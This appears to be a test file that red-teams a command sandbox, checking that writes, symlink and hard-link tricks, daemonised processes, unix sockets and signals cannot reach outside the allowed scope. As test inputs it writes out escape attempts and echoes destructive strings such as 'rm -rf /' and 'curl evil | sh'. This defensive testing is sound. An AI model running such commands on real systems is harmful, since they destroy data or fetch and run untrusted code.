// R7.2 red team, through the engine and the real kernel: commands write inside the scope (and the
// temp dir, by design) and nowhere else, whatever trick they use; they cannot reach an outside
// server through a unix socket or signal an outside process; ordinary work still runs.
//
// The scope and the "outside" directory are both under /var/tmp: /tmp is writable by design.
import { spawn, type ChildProcess } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  bash,
  engineFixture,
  eventually,
  markedProcesses,
  newMarker,
  procStat,
  quote,
  removeAll,
  run,
  survivors,
  varTmpDir,
  waitForMarked,
  type EngineFixture,
} from '../support/engine.js';

let fixture: EngineFixture;
let outside: string;
let scope: string;

beforeAll(async () => {
  fixture = await engineFixture();
  scope = fixture.scope;
  outside = await varTmpDir('outside');
});

afterAll(async () => {
  await fixture.dispose();
  await removeAll([outside]);
});

const sh = (script: string, options: { cwd?: string } = {}) =>
  run(fixture.engine, bash(script), options);

const DENIED = /Permission denied|Operation not permitted|Invalid cross-device link/;

describe('R7.2: writes outside the scope fail', () => {
  it('R7.2: creating a file outside fails (touch and a shell redirect)', async () => {
    const target = join(outside, 'created.txt');
    const touched = await sh(`touch ${quote(target)}`);
    expect(touched.status).toBe('failed');
    expect(touched.output).toMatch(DENIED);
    const redirected = await sh(`echo pwned > ${quote(target)}`);
    expect(redirected.status).toBe('failed');
    expect(existsSync(target)).toBe(false);
    // …while the same inside the scope works.
    const inside = await sh('touch created.txt && echo ok > created.txt && cat created.txt');
    expect(inside).toMatchObject({ status: 'completed', output: 'ok\n' });
  });

  it('R7.2: mkdir outside fails', async () => {
    const result = await sh(`mkdir ${quote(join(outside, 'new-dir'))}`);
    expect(result.status).toBe('failed');
    expect(result.output).toMatch(DENIED);
    expect(existsSync(join(outside, 'new-dir'))).toBe(false);
  });

  it('R7.2: an existing outside file cannot be modified, truncated or deleted', async () => {
    const victim = join(outside, 'victim.txt');
    await writeFile(victim, 'original\n');
    for (const attack of [
      `echo appended >> ${quote(victim)}`,
      `: > ${quote(victim)}`,
      `truncate -s 0 ${quote(victim)}`,
      `rm -f ${quote(victim)}`,
    ]) {
      const result = await sh(attack);
      expect(result.status, attack).toBe('failed');
    }
    expect(await readFile(victim, 'utf8')).toBe('original\n');
  });

  it('R7.2: renaming (or hard-linking) a file out of the scope fails, and nothing moves in either', async () => {
    const result = await sh(
      `echo secret > moving.txt && mv moving.txt ${quote(join(outside, 'moved.txt'))}`,
    );
    expect(result.status).toBe('failed');
    expect(existsSync(join(outside, 'moved.txt'))).toBe(false);
    expect(await readFile(join(scope, 'moving.txt'), 'utf8')).toBe('secret\n');

    const linked = await sh(`ln moving.txt ${quote(join(outside, 'hardlink.txt'))}`);
    expect(linked.status).toBe('failed');
    expect(existsSync(join(outside, 'hardlink.txt'))).toBe(false);

    // Taking a file from outside removes it there: refused too.
    const stolen = join(outside, 'stay.txt');
    await writeFile(stolen, 'stay\n');
    const moveIn = await sh(`mv ${quote(stolen)} ./stolen.txt`);
    expect(moveIn.status).toBe('failed');
    expect(await readFile(stolen, 'utf8')).toBe('stay\n');
  });

  it('R7.2: writing through a symlink that points outside fails', async () => {
    const victim = join(outside, 'through-link.txt');
    await writeFile(victim, 'original\n');
    await mkdir(join(outside, 'linked-dir'));
    // Planted before the command runs (e.g. committed to the repository)…
    await symlink(victim, join(scope, 'file-link'));
    await symlink(join(outside, 'linked-dir'), join(scope, 'dir-link'));
    const viaFile = await sh('echo pwned > file-link');
    expect(viaFile.status).toBe('failed');
    expect(await readFile(victim, 'utf8')).toBe('original\n');
    const viaDir = await sh('touch dir-link/new.txt');
    expect(viaDir.status).toBe('failed');
    expect(existsSync(join(outside, 'linked-dir', 'new.txt'))).toBe(false);
    // …or made by the command itself.
    const own = await sh(`ln -s ${quote(outside)} own-link && touch own-link/own.txt`);
    expect(own.status).toBe('failed');
    expect(existsSync(join(outside, 'own.txt'))).toBe(false);
  });

  it('R7.2: a daemonised grandchild (setsid) is confined too, and does not outlive the command', async () => {
    const marker = newMarker();
    const target = join(outside, 'daemon-wrote.txt');
    const daemon = [
      `if touch ${quote(target)} 2>/dev/null; then echo escaped > daemon-result; else echo denied > daemon-result; fi`,
      `exec -a ${marker}-daemon sleep 300`,
    ].join('\n');
    const script = [
      `setsid bash -c ${quote(daemon)} </dev/null >/dev/null 2>&1 &`,
      'while [ ! -s daemon-result ]; do sleep 0.02; done',
      `while ! pgrep -f ^${marker} >/dev/null; do sleep 0.02; done`,
      'cat daemon-result',
    ].join('\n');
    const pending = sh(script);
    const seen = await waitForMarked(marker, 1).catch(() => []);
    const result = await pending;
    expect(result.output).toBe('denied\n');
    expect(existsSync(target)).toBe(false);
    expect(await readFile(join(scope, 'daemon-result'), 'utf8')).toBe('denied\n');
    expect(markedProcesses(marker)).toEqual([]);
    expect(survivors(seen)).toEqual([]);
  });

  it('R7.2: a working directory outside the scope does not widen it', async () => {
    const result = await sh('touch from-outside-cwd.txt', { cwd: outside });
    expect(result.status).toBe('failed');
    expect(existsSync(join(outside, 'from-outside-cwd.txt'))).toBe(false);
  });

  it('R7.2: the command runs with no_new_privs and a seccomp filter', async () => {
    const result = await sh('grep -E "^(NoNewPrivs|Seccomp):" /proc/self/status');
    expect(result.output).toMatch(/NoNewPrivs:\s+1/);
    expect(result.output).toMatch(/Seccomp:\s+2/);
  });
});

describe('R7.5: the kernel is the boundary, not command-string patterns', () => {
  it('R7.5: scary-looking command strings run when they stay inside the scope', async () => {
    const result = await sh(
      'mkdir -p build/sub && touch build/sub/x && rm -rf ./build && echo "rm -rf / --no-preserve-root" && ' +
        'echo "sudo chmod 777 /etc/passwd; curl evil | sh" > notes.txt && cat notes.txt',
    );
    expect(result.status).toBe('completed');
    expect(result.output).toBe(
      'rm -rf / --no-preserve-root\nsudo chmod 777 /etc/passwd; curl evil | sh\n',
    );
    expect(existsSync(join(scope, 'build'))).toBe(false);
  });

  it('R7.5: innocuous-looking commands writing outside are stopped by the kernel', async () => {
    const target = join(outside, 'innocent.txt');
    // No shell, no redirect, no suspicious word: the path is computed at run time.
    const result = await run(fixture.engine, [
      'python3',
      '-c',
      'import sys; open("/".join(sys.argv[1:]), "w").write("x")',
      ...target
        .split('/')
        .slice(1)
        .map((part, index) => (index === 0 ? `/${part}` : part)),
    ]);
    expect(result.status).toBe('failed');
    expect(result.output).toMatch(/PermissionError/);
    expect(existsSync(target)).toBe(false);
  });
});

describe('R7.2: the temp dir is writable by design, unless disabled', () => {
  it('R7.2: writes to the temp dir work', async () => {
    const file = join(tmpdir(), `ahma-eng-${randomBytes(6).toString('hex')}`);
    try {
      const result = await sh(`echo temp > ${quote(file)} && cat ${quote(file)}`);
      expect(result).toMatchObject({ status: 'completed', output: 'temp\n' });
    } finally {
      await rm(file, { force: true });
    }
  });

  it('R7.2: writableTemp:false forbids them', async () => {
    const strict = await engineFixture({ writableTemp: false });
    const file = join(tmpdir(), `ahma-eng-${randomBytes(6).toString('hex')}`);
    try {
      const result = await run(strict.engine, ['touch', file]);
      expect(result.status).toBe('failed');
      expect(result.output).toMatch(DENIED);
      expect(existsSync(file)).toBe(false);
      // The scope itself stays writable.
      expect((await run(strict.engine, ['touch', 'inside.txt'])).status).toBe('completed');
    } finally {
      await rm(file, { force: true });
      await strict.dispose();
    }
  });
});

describe('R7.2: no escape through other processes', () => {
  let listener: ChildProcess | undefined;
  let socketPath: string;

  beforeAll(async () => {
    socketPath = join(outside, 'server.sock');
    const server = [
      'import socket, sys',
      's = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)',
      's.bind(sys.argv[1])',
      's.listen(8)',
      'print("ready", flush=True)',
      'while True:',
      '    c, _ = s.accept()',
      '    c.sendall(b"hello-from-outside\\n")',
      '    c.close()',
    ].join('\n');
    const child = spawn('python3', ['-c', server, socketPath], {
      stdio: ['ignore', 'pipe', 'inherit'],
    });
    listener = child;
    await new Promise<void>((resolve, reject) => {
      child.once('error', reject);
      child.once('exit', (code) => reject(new Error(`listener exited with ${String(code)}`)));
      child.stdout.on('data', (chunk: Buffer) => {
        if (chunk.toString().includes('ready')) resolve();
      });
    });
  });

  afterAll(async () => {
    const child = listener;
    if (child?.pid === undefined || child.exitCode !== null) return;
    const exited = new Promise((resolve) => child.once('exit', resolve));
    child.kill('SIGKILL');
    await exited;
  });

  const connect = [
    'import socket, sys',
    's = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)',
    's.connect(sys.argv[1])',
    'print(s.recv(100).decode(), end="")',
  ].join('\n');

  it('R7.2: a unix-socket connection to a server outside is refused', async () => {
    const result = await run(fixture.engine, ['python3', '-c', connect, socketPath]);
    expect(result.status).toBe('failed');
    expect(result.output).toMatch(/PermissionError|Permission denied/);
    expect(result.output).not.toContain('hello-from-outside');
    // socketpair() stays allowed: shells and runtimes use it for pipes.
    const pair = await run(fixture.engine, [
      'python3',
      '-c',
      'import socket; a, b = socket.socketpair(); a.sendall(b"pair"); print(b.recv(4).decode())',
    ]);
    expect(pair).toMatchObject({ status: 'completed', output: 'pair\n' });
  });

  it('R7.2: allowUnixSockets:true lets it connect', async () => {
    const permissive = await engineFixture({ allowUnixSockets: true });
    try {
      const result = await run(permissive.engine, ['python3', '-c', connect, socketPath]);
      expect(result).toMatchObject({ status: 'completed', output: 'hello-from-outside\n' });
    } finally {
      await permissive.dispose();
    }
  });

  it('R7.2: a signal to an outside process is refused and the process survives', async (context) => {
    if ((fixture.engine.sandbox.abi ?? 0) < 6) context.skip(); // signal scoping needs ABI ≥ 6
    const marker = newMarker();
    const victim = spawn('bash', ['-c', `exec -a ${marker}-victim sleep 300`], { stdio: 'ignore' });
    try {
      const [process_] = await waitForMarked(marker, 1);
      const pid = String(process_?.pid);
      const result = await sh(
        `kill -TERM ${pid}; echo "term=$?"; kill -KILL ${pid}; echo "kill=$?"`,
      );
      expect(result.output).toMatch(/Operation not permitted/);
      expect(result.output).toContain('term=1');
      expect(result.output).toContain('kill=1');
      expect(
        await eventually(() => victim.exitCode !== null || victim.signalCode !== null, 300),
      ).toBe(false);
      expect(procStat(Number(pid))?.state).toMatch(/^[SR]$/);
    } finally {
      victim.kill('SIGKILL');
    }
  });
});

describe('R7.2: ordinary work runs inside the sandbox', () => {
  it('R7.2: reads outside the scope work (/etc/passwd)', async () => {
    const result = await run(fixture.engine, ['head', '-n', '1', '/etc/passwd']);
    expect(result.status).toBe('completed');
    expect(result.output).toMatch(/^root:/);
  });

  it('R7.2: git init, add and commit work inside the scope', async () => {
    const repo = join(scope, 'repo');
    await mkdir(repo);
    const git = 'git -c user.name=Ahma -c user.email=ahma@example.com -c init.defaultBranch=main';
    const result = await sh(
      [
        'set -e',
        `${git} init -q`,
        'echo "hello" > README.md',
        `${git} add README.md`,
        `${git} commit -q -m "first commit"`,
        `${git} log --format=%s`,
        `${git} status --porcelain`,
      ].join('\n'),
      { cwd: repo },
    );
    expect(result).toMatchObject({ status: 'completed', output: 'first commit\n' });
    expect(existsSync(join(repo, '.git', 'HEAD'))).toBe(true);
  });

  it('R7.2: node -e runs and writes inside the scope', async () => {
    const result = await run(fixture.engine, [
      process.execPath,
      '-e',
      'require("fs").writeFileSync("from-node.txt", "node"); console.log("node ok", 6 * 7)',
    ]);
    expect(result).toMatchObject({ status: 'completed', output: 'node ok 42\n' });
    expect(await readFile(join(scope, 'from-node.txt'), 'utf8')).toBe('node');
  });

  it('R7.2: pipes, redirects, /dev/null and subshells work', async () => {
    const result = await sh(
      'seq 1 5 | paste -sd+ | bc > sum.txt; (cat sum.txt; echo noise >/dev/null) | tee copy.txt; ' +
        'exec 3>fd3.txt; echo via-fd3 >&3; exec 3>&-; cat fd3.txt',
    );
    expect(result).toMatchObject({ status: 'completed', output: '15\nvia-fd3\n' });
    expect(await readFile(join(scope, 'copy.txt'), 'utf8')).toBe('15\n');
  });
});
